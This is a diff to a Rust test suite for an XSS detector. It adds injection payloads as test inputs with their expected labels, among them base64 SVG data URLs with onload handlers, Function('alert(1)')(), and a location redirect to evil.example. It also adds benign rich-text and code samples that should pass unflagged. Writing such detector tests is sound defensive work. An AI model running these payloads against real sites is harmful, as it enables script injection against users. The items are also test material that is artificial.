@@ -228,6 +228,19 @@ fn script_urls_through_obfuscation() {
             "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
             "xss:dangerous-tag",
         ),
+        (
+            "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
+            "xss:data-url",
+        ),
+        (
+            "url=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+            "xss:event-handler",
+        ),
+        // shown as an image, the SVG is judged by what it carries
+        (
+            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+            "xss:event-handler",
+        ),
         // in text: an injection into an existing URL attribute or a script string
         ("javascript:alert(1)", "xss:js-url"),
         (
@@ -355,6 +368,8 @@ fn script_context_injections() {
         ("f.contentWindow.document.cookie", "xss:dom-access"),
         ("';top.prompt(1)//", "xss:dom-access"),
         ("new Function()", "xss:js-sink"),
+        ("Function('alert(1)')()", "xss:js-sink"),
+        ("self.location='//evil.example/'", "xss:dom-access"),
         ("x\";setTimeout(name, 1)//", "xss:js-sink"),
         ("import('//evil.example/x.js')", "xss:js-sink"),
         ("top[\"al\"+\"ert\"](1)", "xss:js-obfuscation"),
@@ -462,6 +477,7 @@ fn rich_text_passes() {
         "<img src=\"https://example.com/cat.jpg\" alt=\"\">",
         "<img src=\"/uploads/diagram.svg\" alt=\"Diagram\" style=\"max-width: 100%; height: auto;\">",
         "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\" alt=\"pixel\">",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" alt=\"icon\">",
         "<ul><li>One</li><li>Two</li></ul><ol start=\"3\"><li>Three</li></ol>",
         "<span style=\"color: #ff0000; font-family: Arial, sans-serif;\">red</span>",
         "<div style=\"background: url(https://example.com/bg.png) no-repeat\">box</div>",
@@ -510,6 +526,10 @@ fn prose_and_data_pass() {
         "for (let i = 0; i < n; i++) { sum += a[i]; }",
         "console.log(\"debug\", value);",
         "let v = get(\"/a/b\").eval(&acl); expr.eval(ctx)",
+        "fn confirm(input: &[u8], end: usize) -> bool { x }",
+        "enum What { Function(usize) } What::Function(i)",
+        "m(Builder::new().ext(16, vec![])); frames[1..]",
+        "if let Some(l) = &self.location { self.location(path) }",
         "Log types: `ALERT`, `FLOW`; checks whose `match.event_type` is ``alert``",
         "{\"name\":\"John\",\"tags\":[\"a\",\"b\"],\"price\":{\"lt\":100}}",
         "SELECT name FROM users WHERE age > 21 ORDER BY name;",
